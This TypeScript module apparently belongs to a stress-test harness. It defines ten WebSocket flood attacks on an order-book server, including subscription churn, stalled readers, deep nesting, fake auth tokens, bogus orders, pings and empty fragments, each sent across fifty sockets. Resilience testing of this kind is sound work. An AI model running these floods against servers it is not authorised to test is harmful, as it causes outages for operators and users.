import { type Attack, keep, type Target } from './connection-floods.ts';
import { opcodes, RawSocket, rawFrame, textFrameOf } from './raw-socket.ts';

const sockets = 50;
const book = 'depth:BTC/USDT';

/** Sends the same frames on fifty sockets as fast as they are taken, and opens another where one is closed. */
function flooding(name: string, frames: Buffer, isReading = true): Attack {
  return {
    name,
    run: (target, signal) => keep(sockets, signal, () => flood(target, { frames, isReading, signal })),
  };
}

interface Flood {
  readonly frames: Buffer;
  readonly isReading: boolean;
  readonly signal: AbortSignal;
}

async function flood({ url, from }: Target, { frames, isReading, signal }: Flood): Promise<void> {
  const socket = await RawSocket.open(url, {}, from).catch(() => null);
  if (!socket) return;
  if (!isReading) socket.stall();
  while (socket.isOpen && !signal.aborted) {
    if (!socket.send(frames)) await Promise.race([socket.drained(), aborted(signal)]);
    // Others of this process have their turn, too.
    await new Promise((resolve) => setImmediate(resolve));
  }
  socket.end();
}

function aborted(signal: AbortSignal): Promise<unknown> {
  return new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));
}

const many = (frame: Buffer, count = 200): Buffer => Buffer.concat(Array.from({ length: count }, () => frame));
const subscribe = textFrameOf({ op: 'subscribe', channels: Array.from({ length: 50 }, () => book) });
const again = Buffer.concat([subscribe, textFrameOf({ op: 'unsubscribe', channels: [book] })]);
const begun = rawFrame({ opcode: opcodes.text, payload: '{', isLast: false });
const empty = rawFrame({ opcode: opcodes.continuation, isLast: false });

/** What WebSockets without a session can do to a server. */
export const socketFloods: readonly Attack[] = [
  flooding('one channel fifty times in a message', subscribe),
  flooding('whole books again and again', again),
  flooding('whole books that nobody reads', again, false),
  flooding('requests that no one knows', many(textFrameOf({ op: 'zzz' }))),
  flooding('16 KiB of nesting', textFrameOf('['.repeat(16 * 1024))),
  flooding('log-ins with tokens that nobody has', many(textFrameOf({ op: 'auth', token: 'x'.repeat(43) }))),
  flooding('orders of nobody', many(textFrameOf({ op: 'create', id: 1, params: {} }))),
  flooding('pings', many(rawFrame({ opcode: opcodes.ping }))),
  flooding('messages in empty pieces', Buffer.concat([begun, many(empty)])),
  flooding('binary frames', many(rawFrame({ opcode: opcodes.binary, payload: 'x' }))),
];
